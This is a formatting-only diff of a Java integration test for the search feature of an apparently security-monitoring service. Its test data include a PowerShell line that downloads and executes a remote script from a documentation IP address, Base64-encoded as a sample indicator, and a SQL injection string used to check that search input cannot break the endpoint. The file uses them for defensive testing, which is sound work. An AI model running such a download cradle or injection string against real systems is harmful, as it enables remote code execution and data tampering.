@@ -34,7 +34,8 @@ import org.junit.jupiter.params.provider.ValueSource;
 @ExtendWith(Serving.class)
 class SearchIT {
 
-    private static final String SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/stage.ps1')";
+    private static final String SCRIPT =
+            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/stage.ps1')";
     private static final String ENCODED =
             Base64.getEncoder().encodeToString(SCRIPT.getBytes(StandardCharsets.UTF_16LE));
     private static final String SHA256 = "c0ffee".repeat(10) + "abcd";
@@ -143,8 +144,11 @@ class SearchIT {
         assertThat(ids(found("192.0.2.50"), "alert")).containsExactly(alone.id());
         assertThat(ids(found(ASSET.substring(ASSET.indexOf(':') + 1)), "asset")).containsExactly(ASSET);
         assertThat(ids(found("ann"), "person")).containsExactly("ann");
-        JsonNode rule = Json.parse(center.get(ann, "/api/v1/rules?limit=1").body()).path("items").path(0);
-        assertThat(ids(found(rule.path("title").asText()), "rule")).contains(rule.path("id").asText());
+        JsonNode rule = Json.parse(center.get(ann, "/api/v1/rules?limit=1").body())
+                .path("items")
+                .path(0);
+        assertThat(ids(found(rule.path("title").asText()), "rule"))
+                .contains(rule.path("id").asText());
     }
 
     @ParameterizedTest
@@ -154,9 +158,19 @@ class SearchIT {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"' OR 1=1 --", "%%%aa", "a\\u0000b", "\uD83D\uDE00\uD83D\uDE00", "aa\uDBFF\uDFFF", "__", "(ab|cd)*"})
+    @ValueSource(
+            strings = {
+                "' OR 1=1 --",
+                "%%%aa",
+                "a\\u0000b",
+                "\uD83D\uDE00\uD83D\uDE00",
+                "aa\uDBFF\uDFFF",
+                "__",
+                "(ab|cd)*"
+            })
     void noWordBreaksTheSearch(String word) {
-        assertThat(center.get(ann, "/api/v1/search?q=" + encoded(word)).statusCode()).isIn(200, 400);
+        assertThat(center.get(ann, "/api/v1/search?q=" + encoded(word)).statusCode())
+                .isIn(200, 400);
     }
 
     /** As in the data folder of an older version: the board has alerts that the index does not have. */
@@ -192,7 +206,9 @@ class SearchIT {
     }
 
     private static List<JsonNode> hits(List<JsonNode> hits, String kind) {
-        return hits.stream().filter(hit -> hit.path("kind").asText().equals(kind)).toList();
+        return hits.stream()
+                .filter(hit -> hit.path("kind").asText().equals(kind))
+                .toList();
     }
 
     private static List<String> ids(List<JsonNode> hits, String kind) {
